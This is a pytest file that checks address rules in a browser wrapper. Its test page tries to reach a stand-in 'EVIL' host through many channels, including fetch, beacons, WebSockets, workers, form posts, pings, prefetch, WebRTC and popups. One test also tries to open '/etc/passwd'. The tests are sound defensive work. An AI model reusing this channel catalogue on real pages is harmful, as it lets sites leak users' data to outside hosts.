"""A browser with address rules: whatever a page tries, nothing reaches who is not allowed, and people are told."""

import asyncio
import socket
from collections.abc import AsyncGenerator, Iterator
from contextlib import asynccontextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from urllib.parse import urlsplit

import pytest
from playwright.async_api import async_playwright
from pydantic import ValidationError

from tests.browser.conftest import only
from tests.host import Host
from webhand.browser import Browser, BrowserConfig, Tab
from webhand.browser.executable import find_executable
from webhand.errors import BlockedURL, ConfigError, NavigationFailed

CHANNELS = """<!doctype html><title>Channels</title>
<link rel=icon href='EVIL/icon'><link rel=preconnect href='EVIL'><link rel=prefetch href='EVIL/prefetch'>
<link rel=dns-prefetch href='//name.EVILNAME'><link rel=stylesheet href='EVIL/style'>
<script type=speculationrules>{"prefetch": [{"urls": ["EVIL/speculated"], "eagerness": "immediate"}]}</script>
<iframe name=sink></iframe><iframe src='/out?to=EVIL/frame-on'></iframe>
<iframe srcdoc="<meta http-equiv=refresh content='0; url=EVIL/refresh'>"></iframe>
<form id=form method=post action='EVIL/form' target=sink><input name=word value=word></form>
<a id=ping href='#here' ping='EVIL/ping'>ping</a><a id=file href='EVIL/file' download target=_blank>file</a>
<script>
const ended = [];
const end = (name, event) => ended.push(new Promise((over) => event(() => over(name))));
const element = (tag, set) => end(tag, (over) => {
  const made = Object.assign(document.createElement(tag), set);
  made.onload = made.onerror = over;
  document.body.append(made);
});
const worker = (kind, code) => end(kind.name, (over) => {
  const url = URL.createObjectURL(new Blob([code]));
  const made = new kind(url);
  (made.port ?? made).onmessage = over;
  made.onerror = over;
});
const script = (to, kind) => `
  const told = () => (self.postMessage ? self : port).postMessage("over");
  let port;
  const go = () => {
    fetch("${to}", { mode: "no-cors" }).catch(() => 0).finally(() => {
      const socket = new WebSocket("EVILWS/${kind}-socket");
      socket.onerror = socket.onclose = told;
    });
  };
  self.postMessage ? go() : (self.onconnect = (event) => { port = event.ports[0]; go(); });`;
async function all() {
  element("img", { src: "EVIL/image" });
  element("img", { src: "/out?to=EVIL/image-on" });
  element("iframe", { src: "EVIL/frame" });
  element("script", { src: "EVIL/script" });
  for (const [name, more] of [["fetch", {}], ["kept", { keepalive: true }]])
    end(name, (over) => fetch(`EVIL/${name}`, { mode: "no-cors", ...more }).catch(() => 0).finally(over));
  end("beacon", (over) => over(navigator.sendBeacon("EVIL/beacon", "x")));
  end("events", (over) => {
    const source = new EventSource("EVIL/events");
    source.onerror = () => { source.close(); over(); };
  });
  end("socket", (over) => { const one = new WebSocket("EVILWS/socket"); one.onerror = one.onclose = over; });
  worker(Worker, script("EVIL/worker", "worker"));
  worker(SharedWorker, script("EVIL/shared", "shared"));
  end("stun", async (over) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] });
    peer.createDataChannel("x");
    peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && over();
    await peer.setLocalDescription(await peer.createOffer());
  });
  document.querySelector("#form").submit();
  document.querySelector("#ping").click();
  document.querySelector("#file").click();
  window.open("EVIL/popup");
  window.open("EVIL/popup-alone", "_blank", "noopener");
  return Promise.all(ended);
}
addEventListener("pagehide", () => navigator.sendBeacon("EVIL/bye", "x"));
</script>"""
ALL = frozenset(
    ("/image", "/image-on", "/frame", "/frame-on", "/script", "/style", "/fetch", "/kept", "/beacon", "/events")
    + ("/socket", "/worker", "/worker-socket", "/shared", "/shared-socket", "/form", "/ping", "/popup", "/popup-alone")
    + ("/refresh", "/file", "/prefetch", "/bye", "connection", "datagram")
)
"""What comes where nothing guards: each is looked for, so that a channel that a browser gives up is noticed."""


class Collector:
    """Keeps the path of every request and each connection, and what comes by UDP."""

    def __init__(self) -> None:
        self.seen: set[str] = set()
        seen = self.seen

        class Handler(BaseHTTPRequestHandler):
            def setup(self) -> None:
                seen.add("connection")
                super().setup()

            def do_GET(self) -> None:
                self.rfile.read(int(self.headers.get("content-length") or 0))
                seen.add(urlsplit(self.path).path)
                self.send_response(200)
                self.send_header("content-length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.port = self._server.server_port
        self.url = f"http://127.0.0.1:{self.port}"
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.udp = self._udp.getsockname()[1]
        self._threads = [Thread(target=self._server.serve_forever, args=(0.02,), daemon=True)]
        self._threads.append(Thread(target=self._datagrams, daemon=True))
        for thread in self._threads:
            thread.start()

    async def until(self, wanted: frozenset[str], tab: Tab) -> None:
        """Wait until all of these have come."""
        try:
            async with asyncio.timeout(30):
                while not self.seen >= wanted:
                    await tab.page.evaluate("new Promise(requestAnimationFrame)")
        except TimeoutError:
            assert self.seen >= wanted, "this has not come"

    def _datagrams(self) -> None:
        while self._udp.recv(2048) != b"over":
            self.seen.add("datagram")

    def close(self) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
            last.sendto(b"over", ("127.0.0.1", self.udp))
        self._server.shutdown()
        for thread in self._threads:
            thread.join()
        self._server.server_close()
        self._udp.close()


@pytest.fixture
def shop() -> Iterator[Host]:
    site = Host()
    yield site
    site.close()


@pytest.fixture
def evil() -> Iterator[Collector]:
    collector = Collector()
    yield collector
    collector.close()


@asynccontextmanager
async def opened(config: BrowserConfig, url: str) -> AsyncGenerator[Tab]:
    async with Browser(config) as browser:
        yield await browser.open(url)


def strictly(*allowed: str) -> BrowserConfig:
    return BrowserConfig(allowed=allowed, strict_subresources=True)


async def try_all(tab: Tab, shop: Host) -> None:
    """Let the page try every channel, wait until all that can be waited for has come to its end, and leave it."""
    await tab.page.evaluate("all()")
    await tab.page.goto(f"{shop.url}/next")


def channels(shop: Host, evil: Collector) -> str:
    told = {"EVILWS": evil.url.replace("http", "ws"), "EVILNAME": f"test:{evil.port}", "UDP": str(evil.udp)}
    text = CHANNELS
    for name, value in {**told, "EVIL": evil.url}.items():
        text = text.replace(name, value)
    shop.pages["/"] = text
    return f"{shop.url}/"


async def test_what_is_not_listed_is_not_reached_by_any_channel(shop: Host, evil: Collector) -> None:
    url = channels(shop, evil)
    async with opened(strictly(shop.url), url) as tab:
        await try_all(tab, shop)
    assert evil.seen == set()


async def test_a_private_network_is_not_reached_by_any_channel_where_only_some_sites_are_blocked(
    shop: Host, evil: Collector
) -> None:
    url = channels(shop, evil)
    async with opened(BrowserConfig(blocked=("ads.example",)), url) as tab:
        await try_all(tab, shop)
    assert evil.seen == set()


async def test_without_rules_all_channels_are_open(shop: Host, evil: Collector) -> None:
    url = channels(shop, evil)
    async with opened(BrowserConfig(), url) as tab:
        await tab.page.evaluate("void all()")
        await evil.until(ALL - {"/bye"}, tab)
        await tab.page.goto(f"{shop.url}/next")
        await evil.until(ALL, tab)


async def test_a_click_to_what_is_not_listed_says_so_and_opens_nothing(shop: Host, evil: Collector) -> None:
    shop.pages["/"] = f"<a href='{evil.url}/landing'>Partner</a>"
    async with opened(strictly(shop.url), f"{shop.url}/") as tab:
        effect = await tab.click(await only(tab))
        host = f"http://127.0.0.1:{evil.port}"
        assert effect.text.endswith(f"{host}/landing, which was not opened: {host} is not among the allowed addresses")
        assert "not among the allowed addresses" in (await tab.observe()).text
        await tab.back()
        assert "Partner" in (await tab.observe()).text
    assert evil.seen == set()


async def test_opening_what_is_not_allowed_is_refused_with_the_reason(shop: Host, evil: Collector) -> None:
    async with opened(strictly(shop.url), f"{shop.url}/") as tab:
        for url in (f"{evil.url}/x", f"{shop.url}/out?to={evil.url}/x", "file:///etc/passwd", "https://a:b@x.example/"):
            with pytest.raises(BlockedURL, match="is not opened"):
                await tab.goto(url)
        with pytest.raises(BlockedURL, match="not among the allowed addresses"):
            await tab.download(None, f"{evil.url}/file")
        assert (await tab.goto(f"{shop.url}/")).navigated == f"{shop.url}/"
    assert evil.seen == set()


async def test_a_program_may_open_its_own_private_sites_and_pages_may_not(shop: Host, evil: Collector) -> None:
    shop.pages["/"] = f"<title>Own</title><img src='{evil.url}/image'>"
    async with opened(BrowserConfig(blocked=("ads.example",)), f"{shop.url}/") as tab:
        assert (await tab.observe()).title == "Own"
        with pytest.raises(BlockedURL, match="blocked by 'ads.example'"):
            await tab.goto("https://cdn.ads.example/x")
        assert evil.seen == set()
        await tab.goto(f"{evil.url}/own")
    assert "/own" in evil.seen


async def test_what_does_not_answer_fails_as_without_rules(shop: Host) -> None:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        closed = f"http://127.0.0.1:{free.getsockname()[1]}/"
    async with opened(BrowserConfig(blocked=("ads.example",)), f"{shop.url}/") as tab:
        with pytest.raises(NavigationFailed, match="nothing answers at 127.0.0.1:"):
            await tab.goto(closed)
        with pytest.raises(NavigationFailed, match="no address is known of nowhere.invalid"):
            await tab.goto("https://nowhere.invalid/")


async def test_rules_are_refused_where_nothing_would_hold_to_them() -> None:
    rules = strictly("https://shop.example")
    with pytest.raises(ConfigError, match="allow_unenforced"):
        await Browser.connect("http://127.0.0.1:9", rules)
    async with async_playwright() as playwright:
        theirs = await playwright.chromium.launch(executable_path=find_executable(), args=["--no-sandbox"])
        with pytest.raises(ConfigError, match="allow_unenforced"):
            await Browser.wrap(theirs, rules)
        accepted = rules.model_copy(update={"allow_unenforced": True})
        browser = await Browser.wrap(theirs, accepted)
        with pytest.raises(BlockedURL):
            await browser.open("https://elsewhere.example/")
        await browser.close()
        await theirs.close()


@pytest.mark.parametrize(
    "given",
    [
        {"allowed": ["*.com"]},
        {"blocked": ["a b"]},
        {"allowed": ["https://shop.example"]},
        {"blocked": ["x.example"], "proxy": {"server": "http://127.0.0.1:1"}},
        {"blocked": ["x.example"], "keep_open": True},
    ],
)
def test_rules_that_cannot_hold_are_refused_when_they_are_made(given: dict[str, object]) -> None:
    with pytest.raises(ValidationError):
        BrowserConfig.model_validate(given)
